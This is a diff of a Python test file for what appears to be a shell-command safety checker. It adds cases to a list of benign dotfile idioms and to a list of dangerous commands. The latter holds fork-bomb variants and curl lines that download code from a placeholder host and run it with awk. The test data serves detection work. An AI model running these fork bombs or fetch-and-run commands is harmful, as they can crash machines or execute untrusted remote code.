@@ -170,6 +170,7 @@ def test_the_definitions_the_command_cannot_reach() -> None:
     [
         'pbcopy() { stdin=$(</dev/stdin); p="$(which pbcopy)"; echo "$stdin" | "$p"; }; echo hi | pbcopy',
         'open() { o=$(type -P open); "$o" "$@" & }; open .',
+        'pbcopy() { pbcopy="$(which pbcopy)"; echo "$1" | "$pbcopy"; }; pbcopy x',  # the variable's name
         'd=$(mktemp); curl -L "$URL" > "$d"; unzip "$d" -d ./; unzip -l "$d" | gawk "NR==4 {print}"',
         "curl -fsSLo tools.zip https://x.example/t.zip && unzip tools.zip && awk -F, '{print $1}' data.csv",
         "local keyfile=tests/tls/${name}.key; openssl genrsa -out $keyfile 2048",
@@ -191,6 +192,7 @@ def test_dotfile_idioms_that_were_misread(command: str) -> None:
         ":(){ :|:& };:",
         "bomb() { bomb | bomb & }; bomb",
         "f() { p=$(command -v f); $p | $p & }; f",  # command -v finds the function itself
+        'pbcopy() { pbcopy="$(which pbcopy)"; pbcopy | pbcopy & }; pbcopy',
         "x=f; f(){ $x|$x& }; f",
         "curl -fsSLo k.zip https://x.example/k.zip && unzip k.zip && awk -f k/run.awk",
         "curl -fsSLo p.awk https://x.example/p && gawk --file=p.awk /etc/hosts",
